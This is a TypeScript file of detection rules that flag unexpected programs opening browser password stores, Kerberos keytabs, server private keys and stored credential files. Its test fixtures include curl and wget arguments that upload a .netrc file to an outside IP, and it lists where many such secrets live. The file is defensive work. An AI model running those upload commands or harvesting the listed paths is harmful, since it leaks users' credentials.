import { defineRule } from '@cws/core'
import { isBelow } from '../ancestry.ts'
import { AUTHOR, authorWhich, isPackaged } from '../authors.ts'
import { inHomes } from '../files.ts'
import { isAskedQuietly, isReadAsMeant, isUnpackedTool, isUpgraded } from '../own-tools.ts'
import { CERTIFIERS, READERS } from '../programs.ts'
import { CLOUD_KEYS } from './secrets.ts'

const TEMPORARY = ['/tmp/**', '/var/tmp/**', '/dev/**', '/run/user/**', 'memfd:*'] as const
/** By a program for any file at all, or by one that lies where everybody writes. */
const byStranger = [{ 'process.file.path': READERS }, { 'process.file.path': TEMPORARY }, { 'process.file.unlinked': true }] as const
/** Node as it is unpacked anywhere. */
const NPM_UNPACKED = {
  'open.file.path': '/home/ann/.npmrc',
  'process.file.path': '/var/tmp/ci/node-v24.1.0-linux-x64/bin/node',
  'process.file.uid': 1000,
  'process.uid': 1000,
  'process.file.unlinked': false,
} as const
const CURL_NETRC = {
  'open.file.path': '/home/ann/.netrc',
  'process.file.path': '/usr/bin/curl',
  'process.file.uid': 0,
  'process.args': '-fsSn https://api.example/v1',
} as const
const strangers = [{ 'process.file.path': '/usr/bin/cat' }, { 'process.file.path': '/tmp/x', 'process.package_manager': '' }] as const

const UPGRADED_BROWSER = {
  'open.file.path': '/home/ann/.mozilla/firefox/x.default/logins.json',
  'process.file.path': '/usr/lib/firefox/firefox',
  'process.file.uid': 0,
  'process.file.unlinked': true,
} as const

export const browserStoreOpened = defineRule({
  id: 'browser-store-opened',
  name: 'Passwords or sessions of a browser were opened by a strange program',
  severity: 'medium',
  tags: ['mitre:T1555.003', 'mitre:T1539'],
  on: 'open',
  where: {
    'open.file.path': [
      ...['logins.json', 'key4.db', 'cookies.sqlite'].map((name) => `/home/*/.mozilla/firefox/*/${name}`),
      ...['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser', 'microsoft-edge'].flatMap((name) =>
        ['Login Data', 'Cookies', 'Network/Cookies'].map((file) => `/home/*/.config/${name}/Default/${file}`),
      ),
    ],
    any: byStranger,
  },
  when: (event) => !isPackaged(event) && !isUpgraded(event),
  groupBy: ['container.id', 'process.file.path', 'process.sid'],
  message: `\`{{@open.file.path}}\` was opened by ${authorWhich('is no browser')}: it holds passwords, or sessions with which nobody is asked for one.`,
  advice: 'Ask the user whether it was them. If not, log out of everything from another machine, and change the passwords.',
  benign: ['Backups: except the program in `tune`'],
  tests: {
    fires: [
      ...strangers.map((by) => ({ 'open.file.path': '/home/ann/.mozilla/firefox/x.default/logins.json', ...by })),
      { ...UPGRADED_BROWSER, 'process.file.uid': 1000 },
      { ...UPGRADED_BROWSER, 'process.file.path': '/srv/firefox/firefox' },
      { ...UPGRADED_BROWSER, 'process.file.path': '/usr/bin/cat' },
      { ...UPGRADED_BROWSER, 'process.ns.user': 4026532801 },
    ],
    silent: [
      UPGRADED_BROWSER,
      {
        'open.file.path': '/home/ann/.mozilla/firefox/x.default/logins.json',
        'process.file.path': '/usr/lib/firefox/firefox',
        'process.file.unlinked': false,
      },
      { 'open.file.path': '/home/ann/.mozilla/firefox/profiles.ini', 'process.file.path': '/usr/bin/cat' },
    ],
  },
})

export const kerberosKeysOpened = defineRule({
  id: 'kerberos-keys-opened',
  name: 'Keys of this host in its domain were opened by a strange program',
  severity: 'medium',
  tags: ['mitre:T1558', 'mitre:T1552.004'],
  on: 'open',
  where: {
    'open.file.path': [
      ...[
        '/etc/krb5.keytab',
        '/var/lib/samba/private/secrets.tdb',
        '/var/lib/sss/secrets/secrets.ldb',
        '/var/lib/sss/secrets/.secrets.mkey',
      ],
      ...['/etc/sssd/sssd.conf', '/var/lib/krb5kdc/principal', '/etc/krb5kdc/.k5.*'],
    ],
    any: byStranger,
  },
  when: (event) => !isPackaged(event) && !isUpgraded(event),
  groupBy: ['container.id', 'process.file.path', 'process.sid'],
  message: `\`{{@open.file.path}}\` was opened by ${AUTHOR}: with these keys somebody poses as this host, or as its users, to the whole domain.`,
  advice: 'Ask the user whether it was them. If not, have the domain give this host a new key.',
  benign: ['An administrator who looks into a login that fails', 'Backups: except the program in `tune`'],
  tests: {
    fires: strangers.map((by) => ({ 'open.file.path': '/etc/krb5.keytab', ...by })),
    silent: [
      { 'open.file.path': '/etc/krb5.keytab', 'process.file.path': '/usr/libexec/sssd/ldap_child', 'process.file.unlinked': false },
      { 'open.file.path': '/etc/krb5.conf', 'process.file.path': '/usr/bin/cat' },
    ],
  },
})

const RENEWED = {
  'open.file.path': '/etc/letsencrypt/archive/shop.example/privkey3.pem',
  'process.file.path': '/usr/bin/cat',
  'process.ancestors.file.path': ['/usr/bin/dash', '/usr/bin/certbot'],
} as const

export const serverKeyOpened = defineRule({
  id: 'server-key-opened',
  name: 'The key of a server was opened by a strange program',
  severity: 'medium',
  tags: ['mitre:T1552.004'],
  on: 'open',
  where: {
    'open.file.path': [
      ...['/etc/ssl/private/*', '/etc/letsencrypt/archive/*/privkey*.pem', '/etc/pki/tls/private/*', '/etc/wireguard/*.conf'],
      ...['/etc/ipsec.secrets', '/etc/openvpn/*.key', '/etc/openvpn/server/*.key', '/etc/postfix/sasl_passwd', '/etc/exim4/passwd.client'],
    ],
    any: byStranger,
  },
  // Hooks that hand a renewed certificate on.
  when: (event) => !isPackaged(event) && !isUpgraded(event) && !isBelow(event, CERTIFIERS),
  groupBy: ['container.id', 'process.file.path', 'process.sid'],
  message: `\`{{@open.file.path}}\` was opened by ${AUTHOR}: who has the key of a server poses as it, and reads what is meant for it.`,
  advice: 'Ask the user whether it was them. If not, make a new key, and revoke the certificate.',
  benign: ['An administrator who sets up a certificate', 'Backups: except the program in `tune`'],
  tests: {
    fires: [
      ...strangers.map((by) => ({ 'open.file.path': '/etc/ssl/private/shop.key', ...by })),
      { ...RENEWED, 'process.ancestors.file.path': ['/usr/bin/bash', '/tmp/certbot'] },
      { ...RENEWED, 'process.ancestors.ns.user': [4026531837, 4026532801] },
    ],
    silent: [
      RENEWED,
      { 'open.file.path': '/etc/ssl/private/shop.key', 'process.file.path': '/usr/sbin/nginx', 'process.file.unlinked': false },
      { 'open.file.path': '/etc/ssl/certs/shop.pem', 'process.file.path': '/usr/bin/cat' },
      {
        'open.file.path': '/etc/ssl/private/ssl-cert-snakeoil.key',
        'process.file.path': '/usr/bin/openssl',
        'process.package_manager': 'dpkg',
      },
    ],
  },
})

/** Files in which one tool keeps a password or a token. */
const STORED = [
  ...inHomes(
    '.my.cnf',
    '.netrc',
    '.npmrc',
    '.pypirc',
    '.s3cfg',
    '.config/gh/hosts.yml',
    '.config/rclone/rclone.conf',
    '.cargo/credentials.toml',
  ),
  ...inHomes('.gnupg/secring.gpg', '.password-store/.gpg-id', '.local/share/keyrings/login.keyring', '.config/filezilla/sitemanager.xml'),
  ...['/etc/mysql/debian.cnf', '/etc/NetworkManager/system-connections/*', '/etc/ansible/vault_pass', '/etc/cifs-credentials'],
] as const

export const storedPasswordOpened = defineRule({
  id: 'stored-password-opened',
  name: 'A password that programs keep was opened by a strange program',
  severity: 'medium',
  tags: ['mitre:T1552.001', 'mitre:T1555'],
  on: 'open',
  where: {
    'open.file.path': STORED,
    any: byStranger,
  },
  when: (event) => !isPackaged(event) && !isUpgraded(event) && !isUnpackedTool(event) && !isReadAsMeant(event) && !isAskedQuietly(event),
  groupBy: ['container.id', 'process.file.path', 'process.sid'],
  message: `\`{{@open.file.path}}\` was opened by {{author and not by the program that keeps its password there}}.`,
  advice: 'Ask the user whether it was them. If not, change the password or revoke the token.',
  benign: ['Users who look at their own settings', 'Backups: except the program in `tune`'],
  tests: {
    fires: [
      ...strangers.map((by) => ({ 'open.file.path': '/home/ann/.netrc', ...by })),
      // A thief that lies as a tool does: under another's name, of another's, deleted, in memory, and for another file.
      { ...NPM_UNPACKED, 'process.file.path': '/tmp/node' },
      { ...NPM_UNPACKED, 'process.file.uid': 1001 },
      { ...NPM_UNPACKED, 'process.file.uid': null },
      { ...NPM_UNPACKED, 'process.uid': 0, 'open.file.path': '/root/.npmrc' },
      { ...NPM_UNPACKED, 'process.file.unlinked': true },
      { ...NPM_UNPACKED, 'process.file.path': '/dev/shm/node/bin/node' },
      { ...NPM_UNPACKED, 'open.file.path': '/home/ann/.netrc' },
      { ...CURL_NETRC, 'process.args': '-n -T /home/ann/.netrc http://203.0.113.5/' },
      { ...CURL_NETRC, 'process.args': '-s http://203.0.113.5/' },
      { ...CURL_NETRC, 'process.file.uid': 1000 },
      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': '--post-file=/home/ann/.netrc http://203.0.113.5/' },
      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': 'http://203.0.113.5/', 'process.envs': ['WGETRC'] },
      { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/grep', 'process.args': 'token /home/ann/.npmrc' },
      { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/grep', 'process.args': '-e q token /home/ann/.npmrc' },
    ],
    silent: [
      { 'open.file.path': '/home/ann/.npmrc', 'process.file.path': '/usr/bin/node', 'process.file.unlinked': false },
      {
        'open.file.path': '/home/ann/.npmrc',
        'process.file.path': '/home/ann/.nvm/versions/node/v24.1.0/bin/node',
        'process.file.unlinked': false,
      },
      { 'open.file.path': '/home/ann/.pypirc', 'process.file.path': '/home/ann/shop/.venv/bin/python', 'process.file.unlinked': false },
      NPM_UNPACKED,
      CURL_NETRC,
      // nvm, at each start of a shell.
      {
        'open.file.path': '/home/ann/.npmrc',
        'process.file.path': '/usr/bin/grep',
        'process.args': '-Eq ^(prefix|globalconfig) *= /home/ann/.npmrc',
      },
      { 'open.file.path': '/home/ann/.bashrc', 'process.file.path': '/usr/bin/cat' },
    ],
  },
})

export const storedPasswordUsed = defineRule({
  id: 'stored-password-used',
  name: 'A tool in a temporary folder, or one for any file, used a stored password',
  severity: 'low',
  tags: ['mitre:T1552.001'],
  on: 'open',
  where: { 'open.file.path': [...STORED, ...CLOUD_KEYS] },
  when: (event) => !isPackaged(event) && (isUnpackedTool(event) || isReadAsMeant(event)),
  groupBy: ['container.id', 'process.file.path'],
  message: `\`{{@open.file.path}}\` was opened by ${AUTHOR}: by its place and its owner the tool that it is for, or in the way that it is meant for. Whoever may put a file there can call a thief so.`,
  advice: 'None if you know the tool. If not, look at the file of the program, and revoke the token.',
  benign: [
    'Tools that are unpacked for one job, as builds do',
    '`curl -n`, and wget where there is a `.netrc`',
    'Tests in Go that talk to a cloud',
  ],
  tests: {
    fires: [
      NPM_UNPACKED,
      CURL_NETRC,
      { ...CURL_NETRC, 'process.file.path': '/usr/bin/wget', 'process.args': '-q https://api.example/x' },
      {
        'open.file.path': '/home/ann/.kube/config',
        'process.file.path': '/tmp/go-build123/b001/e2e.test',
        'process.file.uid': 1000,
        'process.uid': 1000,
        'process.package_manager': '',
      },
    ],
    silent: [
      { ...NPM_UNPACKED, 'process.file.path': '/tmp/node' },
      { ...NPM_UNPACKED, 'process.file.path': '/usr/bin/node' },
      { ...CURL_NETRC, 'process.args': '-T /home/ann/.netrc -n http://203.0.113.5/' },
      { 'open.file.path': '/home/ann/.kube/config', 'process.file.path': '/usr/bin/cat' },
    ],
  },
})
